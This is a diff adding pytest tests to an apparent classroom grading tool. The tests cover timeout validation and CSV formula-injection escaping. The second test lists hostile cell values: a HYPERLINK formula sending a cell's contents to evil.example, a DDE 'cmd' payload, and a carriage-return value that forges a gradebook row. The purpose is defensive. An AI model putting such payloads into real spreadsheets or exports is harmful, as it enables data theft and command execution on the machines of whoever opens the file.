@@ -133,3 +133,34 @@ def test_a_file_that_is_not_a_notebook_is_collected_and_named(course, tmp_path, 
     out = capsys.readouterr().out
     assert "collected 2 submission(s)" in out and "bob: bob.ipynb is not a notebook Jupyter can open" in out
     assert (course / "submitted/bob" / A / f"{A}.ipynb").read_bytes() == b"%PDF-1.4 not a notebook"
+
+
+def test_time_limits_are_whole_seconds_above_zero(course, capsys):
+    for argv in (["feedback", A, "--timeout", "0"], ["feedback", A, "--timeout", "soon"],
+                 ["release", A, "--cell-timeout", "-5"]):
+        with pytest.raises(SystemExit) as stopped:
+            main(["--course", str(course), *argv])
+        assert stopped.value.code == 2
+        err = capsys.readouterr().err
+        assert "time limit is more than 0 seconds" in err or "is not a whole number of seconds" in err
+
+
+def test_the_gradebook_csv_runs_no_formula_in_a_spreadsheet(course, monkeypatch):
+    """A status can quote a submission; no text cell may start like a formula, and numbers stay numbers."""
+    import csv
+    import io
+
+    from grader.classroom import Course, export as stage
+
+    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+               "\t=1", "\r=1", "\uff1d1+1"]
+    table = [{"student": "alice", "assignment": A, "status": f"not graded: {hostile[0]}", "total": "2", "max": "8"}]
+    table += [{"student": "bob", "assignment": A, "status": text, "total": "-1.5", "max": "8"} for text in hostile]
+    table += [{"student": "eve", "assignment": A, "status": f"not graded: x\reve,{A},graded,8,8", "max": "8"}]
+    monkeypatch.setattr(stage, "rows", lambda course, assignments: (["student", "assignment", "status", "total",
+                                                                     "max"], table))
+    written = list(csv.DictReader(io.StringIO(stage.export(Course(course), [A]))))
+    assert written[0]["status"] == table[0]["status"]  # text that starts as text is left as it is
+    assert [row["status"] for row in written[1:-1]] == ["'" + text.replace("\r", "\n") for text in hostile]
+    assert {row["total"] for row in written} == {"2", "-1.5", ""}
+    assert len(written) == len(table) and written[-1]["status"] == f"not graded: x\neve,{A},graded,8,8"
